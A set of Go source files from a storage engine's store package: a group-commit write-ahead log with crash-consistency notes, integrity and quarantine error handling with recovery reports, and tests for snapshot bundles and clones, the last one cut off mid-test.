		s.shardOf(id).labelIndex.Put(btree.K2(fp, id), 0)
	}
	return nil
}
