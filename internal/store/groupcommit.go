package store

// Group commit (the concurrent fast path for per-object sync): SyncObject
// seals one write-ahead log record from the object's current state, enqueues
// it with the committer, and waits on a commit ticket.  The first syncer to
// find the committer idle becomes the leader: it drains the queue in bounded
// batches, each batch one wal.AppendBatch plus one Commit (a single
// sequential write and flush), and resolves every ticket in the batch.
// Followers just wait; their latency is bounded by at most one in-flight
// batch ahead of theirs, and batch size is bounded by
// Options.GroupCommitBytes/GroupCommitRecords.
//
// Crash-consistency invariants:
//
//   - A record is sealed and enqueued while holding the object's entry lock,
//     so for one object, log order equals seal order: replay can never
//     regress an object to an earlier sealed state.
//   - SyncObject holds ckptMu in read mode from seal to ticket resolution,
//     so no checkpoint SEAL can intervene between sealing a state and
//     committing it — a record in the log is never older than the epoch
//     marker before it, so replay on the matching snapshot never regresses.
//   - When a batch cannot commit (log full, or a record that could never
//     fit), the sealed records are dropped from the log's pending buffer and
//     every affected syncer falls back to a checkpoint: the checkpoint makes
//     a state at least as new as each sealed record durable, which satisfies
//     the sync contract, and dropping the records keeps a later commit from
//     regressing objects below the checkpoint.  The sealSeq/completedSeal
//     pair lets the fallback syncers share one checkpoint instead of each
//     running their own: a syncer records sealSeq while still under ckptMu
//     read mode, and any checkpoint sealed strictly after that (its body
//     committed, so completedSeal exceeds the recorded value) covered the
//     syncer's state.

import (
	"errors"
	"runtime"
	"sync"

	"histar/internal/wal"
)

// errRetryCheckpoint is the internal signal that a sync must be satisfied by
// a whole-system checkpoint instead of a log record.
var errRetryCheckpoint = errors.New("store: sync falls back to a checkpoint")

// syncTicket is one syncer's claim on a future batch commit.
type syncTicket struct {
	rec  wal.Record
	done chan struct{}
	err  error
}

// committer is the leader/follower group-commit state.  mu is a leaf lock:
// it is taken below entry locks (enqueue) and never while holding it does
// the committer acquire any other store lock.
type committer struct {
	mu         sync.Mutex
	queue      []*syncTicket
	leaderBusy bool
	// held pauses the committer (test hook): syncers enqueue and block until
	// release, which drains the queue on the releasing goroutine.
	held     bool
	maxBytes int64
	maxRecs  int

	// Batch statistics, guarded by mu and counted only for batches whose
	// commit succeeded — the committer is the single source of truth for
	// batching stats (wal.Stats counts at the append layer, which also sees
	// batches whose commit later fails).  hist buckets batch sizes as
	// 1, 2, 3–4, 5–8, 9–16, 17–32, 33–64, 65+.
	batches      uint64
	batchRecords uint64
	maxBatch     int
	hist         [groupHistBuckets]uint64
}

const groupHistBuckets = 8

// histBucket maps a batch size to its histogram bucket.
func histBucket(n int) int {
	b := 0
	for n > 1 && b < groupHistBuckets-1 {
		n = (n + 1) / 2
		b++
	}
	return b
}

// enqueue registers a sealed record for the next batch.  Called with the
// object's entry lock held, so per-object queue order matches seal order.
func (c *committer) enqueue(rec wal.Record) *syncTicket {
	t := &syncTicket{rec: rec, done: make(chan struct{})}
	c.mu.Lock()
	c.queue = append(c.queue, t)
	c.mu.Unlock()
	return t
}

// takeBatch pops the next bounded batch off the queue; the caller holds
// c.mu.  Statistics are recorded by the leader once the batch commits.
func (c *committer) takeBatch() []*syncTicket {
	n, bytes := 0, int64(0)
	for n < len(c.queue) {
		sz := c.queue[n].rec.EncodedSize()
		if n > 0 && (bytes+sz > c.maxBytes || n >= c.maxRecs) {
			break
		}
		bytes += sz
		n++
	}
	batch := append([]*syncTicket(nil), c.queue[:n]...)
	rest := copy(c.queue, c.queue[n:])
	for i := rest; i < len(c.queue); i++ {
		c.queue[i] = nil
	}
	c.queue = c.queue[:rest]
	return batch
}

// recordBatch folds one successfully committed batch into the statistics;
// the caller holds c.mu.
func (c *committer) recordBatch(n int) {
	c.batches++
	c.batchRecords += uint64(n)
	if n > c.maxBatch {
		c.maxBatch = n
	}
	c.hist[histBucket(n)]++
}

// awaitCommit resolves t: the calling syncer becomes the leader if the
// committer is idle, otherwise waits for the active leader (or a test
// release) to commit its batch.
func (s *Store) awaitCommit(t *syncTicket) error {
	c := &s.comm
	c.mu.Lock()
	if !c.held && !c.leaderBusy {
		c.leaderBusy = true
		s.drainLocked()
		c.leaderBusy = false
	}
	c.mu.Unlock()
	<-t.done
	return t.err
}

// drainLocked commits batches until the queue is empty (or a test hold
// pauses the committer).  Called with c.mu held; returns with it held.  The
// queue cannot grow unboundedly under the leader: every enqueuer holds
// ckptMu in read mode and blocks on its ticket, so at most one record per
// live syncer is outstanding.
func (s *Store) drainLocked() {
	c := &s.comm
	for len(c.queue) > 0 && !c.held {
		batch := c.takeBatch()
		c.mu.Unlock()
		err := s.commitBatch(batch)
		for _, bt := range batch {
			bt.err = err
			close(bt.done)
		}
		c.mu.Lock()
		if err == nil {
			c.recordBatch(len(batch))
		}
	}
}

// commitBatch appends and commits one batch: the single sequential write
// plus flush that many syncers share.
func (s *Store) commitBatch(batch []*syncTicket) error {
	recs := make([]wal.Record, len(batch))
	for i, t := range batch {
		recs[i] = t.rec
	}
	if err := s.l.AppendBatch(recs); err != nil {
		if errors.Is(err, wal.ErrTooLarge) {
			// Pre-checked at seal time; only a shrunken log could get here.
			return errRetryCheckpoint
		}
		return err
	}
	err := s.l.Commit()
	if err == nil {
		return nil
	}
	// The batch did not commit (or its durability is unknown).  Drop it from
	// the log's pending buffer: each syncer is told to retry or fail, and a
	// later commit of these records — potentially after a checkpoint made
	// newer states durable — could regress objects.
	s.l.DropPending()
	if errors.Is(err, wal.ErrFull) {
		return errRetryCheckpoint
	}
	return err
}

// SyncObject durably records the current contents of one object — and, in
// the same log record, its canonical serialized label — through the group
// committer: the fast path for fsync of a single file's segment.  Because
// contents and label commit atomically, a crash after SyncObject can never
// resurrect the object with a stale or missing label.  When the record
// cannot go through the log (the log is full, or the record could never
// fit), the same durability is provided by a whole-system checkpoint.
// Directory-level fsync in the Unix library uses Checkpoint directly, which
// is why the paper's synchronous unlink phase is so much slower on HiStar
// than Linux.
func (s *Store) SyncObject(id uint64) error {
	seal, err := s.syncOnce(id)
	if errors.Is(err, errRetryCheckpoint) {
		return s.checkpointSince(seal)
	}
	return err
}

// syncOnce seals and group-commits one record.  It returns the checkpoint
// seal sequence observed at record-seal time (while holding ckptMu in read
// mode, so no checkpoint SEAL can slip between the read and the enqueue —
// any later seal captures this record's state).
func (s *Store) syncOnce(id uint64) (uint64, error) {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	if s.closed {
		return 0, ErrClosed
	}
	seal := s.sealSeq.Load()
	s.c.objectSyncs.Add(1)
	e := s.shardOf(id).lookup(id)
	if e == nil {
		// Nothing in memory and not deleted: the on-disk copy is current.
		return seal, nil
	}
	e.mu.Lock()
	var rec wal.Record
	switch {
	case e.dead:
		rec = wal.Record{ObjectID: id, Delete: true}
	case e.cached:
		rec = wal.Record{ObjectID: id, Data: e.data}
		if e.hasLbl {
			rec.Label = e.lbl.AppendBinary(nil)
		}
	default:
		if e.quar {
			// No resident copy and the home extent is damaged: the store
			// cannot promise this object is durable.
			e.mu.Unlock()
			return seal, &QuarantineError{ID: id, Detail: "cannot sync: home extent failed verification"}
		}
		e.mu.Unlock()
		return seal, nil
	}
	if s.l.TooLarge(rec) {
		// The record can never be logged (it exceeds the log region or the
		// format's label-length field); a checkpoint provides the same
		// durability — contents, label, and index — in one sweep.
		e.mu.Unlock()
		return seal, errRetryCheckpoint
	}
	// Enqueue under the entry lock: per-object log order = seal order.
	t := s.comm.enqueue(rec)
	e.mu.Unlock()
	err := s.awaitCommit(t)
	if err == nil {
		s.c.bytesLogged.Add(uint64(len(rec.Data)))
		s.c.labelBytesLogged.Add(uint64(len(rec.Label)))
	}
	return seal, err
}

// SyncObjects durably records the current contents of many objects at once:
// the batched form of SyncObject that the kernel's syscall ring dispatches.
// Every record is sealed under its entry lock and enqueued with the
// committer BEFORE any ticket is awaited, so the leader's takeBatch sees the
// whole group and forms full batches even with no concurrent syncers — N
// syncs cost at most ⌈N/GroupCommitRecords⌉ log flushes instead of N.  The
// returned slice has one error slot per id (nil = durable); ids that cannot
// go through the log share a single checkpoint fallback.
func (s *Store) SyncObjects(ids []uint64) []error {
	errs := make([]error, len(ids))
	if len(ids) == 0 {
		return errs
	}
	seal, needCkpt := s.syncGroupOnce(ids, errs)
	if needCkpt {
		ckErr := s.checkpointSince(seal)
		for i := range errs {
			if errors.Is(errs[i], errRetryCheckpoint) {
				errs[i] = ckErr
			}
		}
	}
	return errs
}

// syncGroupOnce is SyncObjects' log phase: seal and enqueue every record,
// then await all tickets.  Like syncOnce it holds ckptMu in read mode from
// first seal to last ticket resolution, so no checkpoint can slip between
// sealing a state and committing it.  It reports whether any id must fall
// back to a checkpoint.
func (s *Store) syncGroupOnce(ids []uint64, errs []error) (uint64, bool) {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	seal := s.sealSeq.Load()
	if s.closed {
		for i := range errs {
			errs[i] = ErrClosed
		}
		return seal, false
	}
	type slot struct {
		i int
		t *syncTicket
	}
	slots := make([]slot, 0, len(ids))
	needCkpt := false
	for i, id := range ids {
		s.c.objectSyncs.Add(1)
		e := s.shardOf(id).lookup(id)
		if e == nil {
			// Nothing in memory and not deleted: the on-disk copy is current.
			continue
		}
		e.mu.Lock()
		var rec wal.Record
		switch {
		case e.dead:
			rec = wal.Record{ObjectID: id, Delete: true}
		case e.cached:
			rec = wal.Record{ObjectID: id, Data: e.data}
			if e.hasLbl {
				rec.Label = e.lbl.AppendBinary(nil)
			}
		default:
			e.mu.Unlock()
			continue
		}
		if s.l.TooLarge(rec) {
			e.mu.Unlock()
			errs[i] = errRetryCheckpoint
			needCkpt = true
			continue
		}
		// Enqueue under the entry lock: per-object log order = seal order.
		t := s.comm.enqueue(rec)
		e.mu.Unlock()
		slots = append(slots, slot{i, t})
	}
	for _, sl := range slots {
		err := s.awaitCommit(sl.t)
		switch {
		case err == nil:
			s.c.bytesLogged.Add(uint64(len(sl.t.rec.Data)))
			s.c.labelBytesLogged.Add(uint64(len(sl.t.rec.Label)))
		case errors.Is(err, errRetryCheckpoint):
			errs[sl.i] = errRetryCheckpoint
			needCkpt = true
		default:
			errs[sl.i] = err
		}
	}
	return seal, needCkpt
}

// checkpointSince provides a sync's checkpoint fallback: if a checkpoint
// sealed strictly after the record was enqueued has already committed
// (completedSeal moved past the sealSeq value the syncer recorded under
// ckptMu read mode), that checkpoint captured and made durable a state at
// least as new and nothing more is needed; otherwise run one.  The check is
// repeated after acquiring ckptRun, so when a whole failed batch lands here
// at once, the first ticket-holder checkpoints and the rest observe its
// completion and return without running their own.
func (s *Store) checkpointSince(seal uint64) error {
	if s.completedSeal.Load() > seal {
		return nil
	}
	s.ckptRun.Lock()
	defer s.ckptRun.Unlock()
	if s.completedSeal.Load() > seal {
		return nil
	}
	return s.checkpointRunLocked()
}

// holdGroupCommit pauses the committer so a test can pile up concurrent
// syncers deterministically: subsequent syncs enqueue and block on their
// tickets.  It waits out any active leader first.
func (s *Store) holdGroupCommit() {
	c := &s.comm
	for {
		c.mu.Lock()
		if !c.leaderBusy {
			c.held = true
			c.mu.Unlock()
			return
		}
		c.mu.Unlock()
		runtime.Gosched()
	}
}

// releaseGroupCommit resumes the committer, draining everything queued while
// it was held on the calling goroutine.
func (s *Store) releaseGroupCommit() {
	c := &s.comm
	c.mu.Lock()
	c.held = false
	if !c.leaderBusy {
		c.leaderBusy = true
		s.drainLocked()
		c.leaderBusy = false
	}
	c.mu.Unlock()
}

// groupQueueLen reports how many sealed records wait for the committer
// (tests poll it while the committer is held).
func (s *Store) groupQueueLen() int {
	c := &s.comm
	c.mu.Lock()
	n := len(c.queue)
	c.mu.Unlock()
	return n
}

// GroupCommitStats describes the committer's batching behaviour.
type GroupCommitStats struct {
	// Batches and Records count committed batches and the records in them;
	// MaxBatch is the largest batch formed.
	Batches  uint64
	Records  uint64
	MaxBatch int
	// Hist buckets batch sizes: 1, 2, 3–4, 5–8, 9–16, 17–32, 33–64, 65+.
	Hist [groupHistBuckets]uint64
}

// GroupCommitStats returns a snapshot of the committer's batch statistics.
func (s *Store) GroupCommitStats() GroupCommitStats {
	c := &s.comm
	c.mu.Lock()
	defer c.mu.Unlock()
	return GroupCommitStats{
		Batches:  c.batches,
		Records:  c.batchRecords,
		MaxBatch: c.maxBatch,
		Hist:     c.hist,
	}
}
