package store

import (
	"errors"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"histar/internal/wal"
)

// Integrity errors.  Every corruption the store detects — superblock,
// metadata area, fingerprint index, object extent, or write-ahead log — is
// reported through an error that errors.Is-matches ErrCorrupt; no decode
// path returns a bare fmt.Errorf or panics on damaged bytes.
var (
	// ErrCorrupt is the sentinel every detected-corruption error wraps.
	ErrCorrupt = errors.New("store: corrupt on-disk state")
	// ErrQuarantined is returned when accessing an object whose home-extent
	// contents failed checksum verification.  The rest of the store keeps
	// serving; the damaged object stays enumerable via QuarantinedObjects
	// until its contents are replaced by a Put or Delete.
	ErrQuarantined = errors.New("store: object quarantined (failed integrity verification)")
)

// CorruptError describes where corruption was detected.  It matches
// ErrCorrupt under errors.Is.
type CorruptError struct {
	// Area names the damaged structure: "superblock", "metadata",
	// "metadata/index", "object", or "wal".
	Area string
	// Offset is the byte offset on the device where the damage was detected.
	Offset int64
	// Detail says what check failed, including expected/got values where
	// they exist.
	Detail string
}

func (e *CorruptError) Error() string {
	return fmt.Sprintf("store: corrupt %s at offset %d: %s", e.Area, e.Offset, e.Detail)
}

func (e *CorruptError) Is(target error) bool { return target == ErrCorrupt }

// QuarantineError identifies a quarantined object.  It matches both
// ErrQuarantined and ErrCorrupt under errors.Is.
type QuarantineError struct {
	ID     uint64
	Detail string
}

func (e *QuarantineError) Error() string {
	return fmt.Sprintf("store: object %d quarantined: %s", e.ID, e.Detail)
}

func (e *QuarantineError) Is(target error) bool {
	return target == ErrQuarantined || target == ErrCorrupt
}

// RecoveryReport records which rungs of the degradation ladder Open had to
// take to mount the store.  A clean open reports all-false.
type RecoveryReport struct {
	// LegacyImage: the image predates the checksummed v2 format; it was
	// loaded without verification and will be rewritten in v2 form by the
	// next checkpoint.
	LegacyImage bool
	// SuperblockFallback: the primary superblock copy failed its checks and
	// the backup copy at offset 512 was used.
	SuperblockFallback bool
	// MetaFallback: the superblock-referenced metadata area failed its
	// checks; the alternate (previous-checkpoint) area was loaded and the
	// write-ahead log replayed from the retained generation forward.
	MetaFallback bool
	// MetaEpoch is the checkpoint epoch of the metadata snapshot actually
	// loaded.
	MetaEpoch uint64
	// IndexRebuilt: the fingerprint-index section alone was corrupt and was
	// rebuilt from the (intact) label section instead of failing the mount.
	IndexRebuilt bool
	// WALDamaged: the write-ahead log had a damaged record or header; the
	// valid prefix was replayed and the log resealed.
	WALDamaged bool
	// WALRecordsReplayed counts the log records applied on top of the
	// loaded snapshot.
	WALRecordsReplayed int
}

// Degraded reports whether any fallback rung fired.
func (r RecoveryReport) Degraded() bool {
	return r.SuperblockFallback || r.MetaFallback || r.IndexRebuilt || r.WALDamaged
}

// RecoveryReport returns what the mounting Open had to do; immutable after
// Open returns.
func (s *Store) RecoveryReport() RecoveryReport { return s.report }

// integrityCounters holds the store's corruption accounting.
type integrityCounters struct {
	corruptions atomic.Uint64 // checksum/structure failures detected
	quarantines atomic.Uint64 // quarantine events (cumulative)
	scrubPasses atomic.Uint64
	scrubBytes  atomic.Uint64

	mu        sync.Mutex
	lastScrub ScrubStats
}

// IntegrityStats is the corruption-accounting snapshot surfaced through
// kernel stats and histar-bench.
type IntegrityStats struct {
	// CorruptionsDetected counts every checksum or structural failure the
	// store has detected (at open, on access, or during scrubs).
	CorruptionsDetected uint64
	// QuarantineEvents counts objects placed in quarantine (cumulative);
	// QuarantinedNow is how many are quarantined at this instant.
	QuarantineEvents uint64
	QuarantinedNow   int
	// ScrubPasses and ScrubBytesVerified accumulate across Scrub calls;
	// LastScrub is the most recent pass's full result.
	ScrubPasses        uint64
	ScrubBytesVerified uint64
	LastScrub          ScrubStats
	// Recovery is what Open had to do to mount this store.
	Recovery RecoveryReport
}

// IntegrityStats returns the store's corruption accounting.
func (s *Store) IntegrityStats() IntegrityStats {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	s.integ.mu.Lock()
	last := s.integ.lastScrub
	s.integ.mu.Unlock()
	return IntegrityStats{
		CorruptionsDetected: s.integ.corruptions.Load(),
		QuarantineEvents:    s.integ.quarantines.Load(),
		QuarantinedNow:      len(s.quarantinedLocked()),
		ScrubPasses:         s.integ.scrubPasses.Load(),
		ScrubBytesVerified:  s.integ.scrubBytes.Load(),
		LastScrub:           last,
		Recovery:            s.report,
	}
}

// QuarantinedObjects returns, in ascending order, the IDs of every object
// currently in quarantine.
func (s *Store) QuarantinedObjects() []uint64 {
	s.ckptMu.RLock()
	defer s.ckptMu.RUnlock()
	return s.quarantinedLocked()
}

// quarantinedLocked enumerates quarantined IDs; caller holds ckptMu (either
// mode).
func (s *Store) quarantinedLocked() []uint64 {
	var out []uint64
	for si := range s.shards {
		for _, se := range s.shards[si].snapshot() {
			se.entry.mu.Lock()
			q := se.entry.quar
			se.entry.mu.Unlock()
			if q {
				out = append(out, se.id)
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// quarantine marks an entry damaged and counts the event; caller holds the
// entry's lock.
func (s *Store) quarantine(id uint64, e *objEntry, detail string) *QuarantineError {
	if !e.quar {
		e.quar = true
		s.integ.quarantines.Add(1)
	}
	return &QuarantineError{ID: id, Detail: detail}
}

// noteCorruption counts a detected corruption and returns err unchanged, so
// detection sites stay one-liners.
func (s *Store) noteCorruption(err error) error {
	s.integ.corruptions.Add(1)
	return err
}

// walReplayStart returns the index into recs where replay begins: the first
// record after the epoch marker of the snapshot actually loaded.  That rule
// subsumes the fallback case — a metadata fallback loads the previous
// snapshot, whose marker (and generation) ReclaimBefore retains, so replay
// naturally covers everything the lost snapshot held plus what followed,
// with zero committed-sync loss.  When the loaded epoch has no marker
// (fresh format, or a legacy log whose markers carry no epoch), replay
// starts at the legacy marker if one exists, else at the beginning — for a
// fallback mount, always at the beginning.
func (s *Store) walReplayStart(l *wal.Log) int {
	if idx, ok := l.ReplayStart(s.metaEpoch); ok {
		return idx
	}
	if s.report.MetaFallback {
		return 0
	}
	if idx, ok := l.ReplayStart(0); ok {
		return idx
	}
	return 0
}
