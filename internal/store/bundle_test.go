package store

// Tests for snapshot bundles and O(metadata) clones: capture semantics,
// lineage determinism, extent-pin accounting against the cleaner and the
// deferred-free path, WAL and metadata-snapshot durability, and the
// crash/bit-rot matrices extended to snapshot/clone workloads.

import (
	"bytes"
	"errors"
	"fmt"
	"testing"

	"histar/internal/btree"
	"histar/internal/disk"
	"histar/internal/label"
)

func bundlePayload(id uint64, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(uint64(i) + id*31)
	}
	return b
}

func TestBundleSnapshotCloneBasic(t *testing.T) {
	s, _ := testStore(t)
	want := make(map[uint64][]byte)
	for i := uint64(1); i <= 4; i++ {
		want[i] = bundlePayload(i, 2048)
		if err := s.PutLabeled(i, rotLabel(i), want[i]); err != nil {
			t.Fatal(err)
		}
	}
	lineage, err := s.SnapshotBundle("base", []uint64{1, 2, 3, 4})
	if err != nil {
		t.Fatal(err)
	}
	if lineage == 0 {
		t.Fatal("lineage 0 is reserved")
	}
	info, ok := s.BundleByLineage(lineage)
	if !ok || info.Objects != 4 || info.Bytes != 4*2048 || info.Rotted != 0 {
		t.Fatalf("BundleByLineage = %+v, %v", info, ok)
	}
	// Clone every object; contents and labels come along by reference.
	for i := uint64(1); i <= 4; i++ {
		if err := s.CloneObject(lineage, i, 100+i); err != nil {
			t.Fatal(err)
		}
		got, err := s.Get(100 + i)
		if err != nil || !bytes.Equal(got, want[i]) {
			t.Fatalf("clone %d = %d bytes, %v", 100+i, len(got), err)
		}
		lbl, has := s.Label(100 + i)
		if !has || !lbl.Equal(rotLabel(i)) {
			t.Fatalf("clone %d label = %v, %v", 100+i, lbl, has)
		}
	}
	// The clone and its source alias one extent.
	srcOff, _ := s.homeOffset(1)
	dstOff, _ := s.homeOffset(101)
	if srcOff != dstOff {
		t.Fatalf("clone extent %d != source extent %d", dstOff, srcOff)
	}
	st := s.BundleStats()
	if st.Bundles != 1 || st.BundleObjects != 4 || st.PinnedBytes != 4*2048 {
		t.Fatalf("bundle stats = %+v", st)
	}
	if st.Snapshots != 1 || st.Clones != 4 || st.CloneBytesShared != 4*2048 {
		t.Fatalf("clone counters = %+v", st)
	}
	if st.SharedExtents == 0 {
		t.Fatal("no shared extents tracked")
	}
	// A rewrite of the clone diverges it (copy-on-write at checkpoint
	// granularity) without touching the source.
	if err := s.Put(101, []byte("diverged")); err != nil {
		t.Fatal(err)
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if got, err := s.Get(101); err != nil || string(got) != "diverged" {
		t.Fatalf("rewritten clone = %q, %v", got, err)
	}
	if got, err := s.Get(1); err != nil || !bytes.Equal(got, want[1]) {
		t.Fatalf("source changed by clone rewrite: %d bytes, %v", len(got), err)
	}
	if newOff, _ := s.homeOffset(101); newOff == srcOff {
		t.Fatal("rewritten clone still aliases the shared extent")
	}
}

func TestBundleLineageDeterministicAndIdempotent(t *testing.T) {
	s, _ := testStore(t)
	for i := uint64(1); i <= 3; i++ {
		if err := s.PutLabeled(i, rotLabel(i), bundlePayload(i, 512)); err != nil {
			t.Fatal(err)
		}
	}
	l1, err := s.SnapshotBundle("img", []uint64{1, 2, 3})
	if err != nil {
		t.Fatal(err)
	}
	// Same name and content (ids deduplicated, order irrelevant): same
	// lineage, no second bundle.
	l2, err := s.SnapshotBundle("img", []uint64{3, 1, 2, 2})
	if err != nil {
		t.Fatal(err)
	}
	if l1 != l2 {
		t.Fatalf("idempotent recapture: %#x != %#x", l1, l2)
	}
	if n := len(s.Bundles()); n != 1 {
		t.Fatalf("%d bundles registered, want 1", n)
	}
	// A different name is a different lineage; so is different content.
	l3, err := s.SnapshotBundle("img2", []uint64{1, 2, 3})
	if err != nil {
		t.Fatal(err)
	}
	if l3 == l1 {
		t.Fatal("name not part of the lineage")
	}
	if err := s.Put(2, []byte("changed")); err != nil {
		t.Fatal(err)
	}
	l4, err := s.SnapshotBundle("img", []uint64{1, 2, 3})
	if err != nil {
		t.Fatal(err)
	}
	if l4 == l1 {
		t.Fatal("content not part of the lineage")
	}
}

func TestBundleCaptureRejections(t *testing.T) {
	s, _ := testStore(t)
	if err := s.Put(1, []byte("committed later")); err != nil {
		t.Fatal(err)
	}
	// Missing object.
	if _, err := s.SnapshotBundle("b", []uint64{1, 99}); !errors.Is(err, ErrNoSuchObject) {
		t.Fatalf("bundle of missing object = %v", err)
	}
	// Dirty object: SnapshotBundle itself checkpoints first, so drive the
	// capture body directly the way a racing writer would be seen.
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if err := s.Put(1, []byte("dirty again")); err != nil {
		t.Fatal(err)
	}
	if _, err := s.captureBundle("b", []uint64{1}); !errors.Is(err, ErrNotCommitted) {
		t.Fatalf("capture of dirty object = %v", err)
	}
	// Unknown lineage and unknown source object for clones.
	if err := s.CloneObject(777, 1, 50); !errors.Is(err, ErrNoSuchBundle) {
		t.Fatalf("clone from unknown lineage = %v", err)
	}
	lineage, err := s.SnapshotBundle("b", []uint64{1})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.CloneObject(lineage, 2, 50); !errors.Is(err, ErrNoSuchObject) {
		t.Fatalf("clone of uncaptured object = %v", err)
	}
	// Occupied destination.
	if err := s.Put(50, []byte("here first")); err != nil {
		t.Fatal(err)
	}
	if err := s.CloneObject(lineage, 1, 50); !errors.Is(err, ErrCloneExists) {
		t.Fatalf("clone onto occupied id = %v", err)
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if err := s.CloneObject(lineage, 1, 50); !errors.Is(err, ErrCloneExists) {
		t.Fatalf("clone onto committed id = %v", err)
	}
}

func TestBundleCloneLabelOverride(t *testing.T) {
	s, _ := testStore(t)
	if err := s.PutLabeled(1, rotLabel(1), bundlePayload(1, 256)); err != nil {
		t.Fatal(err)
	}
	lineage, err := s.SnapshotBundle("b", []uint64{1})
	if err != nil {
		t.Fatal(err)
	}
	over := label.New(label.L1, label.P(label.Category(40), label.L3), label.P(label.Category(41), label.L0))
	if err := s.CloneObjectLabeled(lineage, 1, 10, over); err != nil {
		t.Fatal(err)
	}
	lbl, has := s.Label(10)
	if !has || !lbl.Equal(over) {
		t.Fatalf("overridden label = %v, %v", lbl, has)
	}
	// The override is indexed like any other label and survives a remount.
	found := false
	for _, id := range s.ObjectsWithLabel(over.Fingerprint()) {
		if id == 10 {
			found = true
		}
	}
	if !found {
		t.Fatal("overridden label missing from the fingerprint index")
	}
	src, _ := s.Label(1)
	if src.Equal(over) {
		t.Fatal("override leaked onto the source")
	}
}

// TestBundlePinsBlockReclaimUntilDelete: deleting every source object must
// not free the extents a live bundle references — clones keep working — and
// DeleteBundle releases them.
func TestBundlePinsBlockReclaimUntilDelete(t *testing.T) {
	s, _ := testStore(t)
	const n, size = 8, 1 << 18
	want := make(map[uint64][]byte)
	ids := make([]uint64, 0, n)
	for i := uint64(1); i <= n; i++ {
		want[i] = bundlePayload(i, size)
		if err := s.Put(i, want[i]); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, i)
	}
	lineage, err := s.SnapshotBundle("golden", ids)
	if err != nil {
		t.Fatal(err)
	}
	// Drop every source and checkpoint repeatedly so the deferred-free path
	// and the segment cleaner both get their chance at the extents.
	for i := uint64(1); i <= n; i++ {
		if err := s.Delete(i); err != nil {
			t.Fatal(err)
		}
	}
	for round := 0; round < 3; round++ {
		if err := s.Checkpoint(); err != nil {
			t.Fatal(err)
		}
	}
	freeWhilePinned := s.FreeBytes()
	for i := uint64(1); i <= n; i++ {
		if err := s.CloneObject(lineage, i, 100+i); err != nil {
			t.Fatalf("clone of deleted source %d: %v", i, err)
		}
		got, err := s.Get(100 + i)
		if err != nil || !bytes.Equal(got, want[i]) {
			t.Fatalf("clone %d after source delete = %d bytes, %v", 100+i, len(got), err)
		}
	}
	// Drop the clones and the bundle: now the bytes are reclaimable.
	for i := uint64(1); i <= n; i++ {
		if err := s.Delete(100 + i); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.DeleteBundle(lineage); err != nil {
		t.Fatal(err)
	}
	if err := s.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if after := s.FreeBytes(); after <= freeWhilePinned {
		t.Errorf("DeleteBundle did not release pinned space: %d -> %d", freeWhilePinned, after)
	}
	if err := s.DeleteBundle(lineage); !errors.Is(err, ErrNoSuchBundle) {
		t.Errorf("double DeleteBundle = %v", err)
	}
	if err := s.ValidateBundle(lineage); !errors.Is(err, ErrNoSuchBundle) {
		t.Errorf("ValidateBundle after delete = %v", err)
	}
	if err := s.CloneObject(lineage, 1, 200); !errors.Is(err, ErrNoSuchBundle) {
		t.Errorf("clone after delete = %v", err)
	}
}

// TestBundleSurvivesCrashViaWAL: a bundle and its clones are durable the
// moment the calls return, before any later checkpoint.
func TestBundleSurvivesCrashViaWAL(t *testing.T) {
	s, d := testStore(t)
	data := bundlePayload(1, 4096)
	if err := s.PutLabeled(1, rotLabel(1), data); err != nil {
		t.Fatal(err)
	}
	lineage, err := s.SnapshotBundle("crashme", []uint64{1})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.CloneObject(lineage, 1, 2); err != nil {
		t.Fatal(err)
	}
	over := label.New(label.L1, label.P(label.Category(9), label.L0))
	if err := s.CloneObjectLabeled(lineage, 1, 3, over); err != nil {
		t.Fatal(err)
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if err := s2.ValidateBundle(lineage); err != nil {
		t.Fatalf("bundle lost by crash: %v", err)
	}
	for _, id := range []uint64{2, 3} {
		got, err := s2.Get(id)
		if err != nil || !bytes.Equal(got, data) {
			t.Fatalf("clone %d after crash = %d bytes, %v", id, len(got), err)
		}
	}
	if lbl, has := s2.Label(2); !has || !lbl.Equal(rotLabel(1)) {
		t.Fatalf("clone 2 label after crash = %v, %v", lbl, has)
	}
	if lbl, has := s2.Label(3); !has || !lbl.Equal(over) {
		t.Fatalf("clone 3 label after crash = %v, %v", lbl, has)
	}
	// The replayed aliases still share: a rewrite of one clone must not
	// disturb the other or the source.
	if err := s2.Put(2, []byte("private now")); err != nil {
		t.Fatal(err)
	}
	if err := s2.Checkpoint(); err != nil {
		t.Fatal(err)
	}
	if got, err := s2.Get(3); err != nil || !bytes.Equal(got, data) {
		t.Fatalf("clone 3 after sibling rewrite = %d bytes, %v", len(got), err)
	}
	if got, err := s2.Get(1); err != nil || !bytes.Equal(got, data) {
		t.Fatalf("source after clone rewrite = %d bytes, %v", len(got), err)
	}
}

// TestBundlePersistsInMetadataSnapshot: from the first checkpoint after
// capture the bundle lives in the v4 metadata section, so it survives
// remounts whose WAL generations have long been reclaimed.
func TestBundlePersistsInMetadataSnapshot(t *testing.T) {
	s, d := testStore(t)
	if err := s.Put(1, bundlePayload(1, 1024)); err != nil {
		t.Fatal(err)
	}
	lineage, err := s.SnapshotBundle("persistent", []uint64{1})
	if err != nil {
		t.Fatal(err)
	}
	// Churn enough checkpoints that the capture generation's log is gone.
	for i := 0; i < 4; i++ {
		if err := s.Put(1000+uint64(i), bundlePayload(uint64(i), 64)); err != nil {
			t.Fatal(err)
		}
		if err := s.Checkpoint(); err != nil {
			t.Fatal(err)
		}
	}
	d.Crash()
	s2, err := Open(d, Options{LogSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	info, ok := s2.BundleByLineage(lineage)
	if !ok || info.Name != "persistent" || info.Objects != 1 {
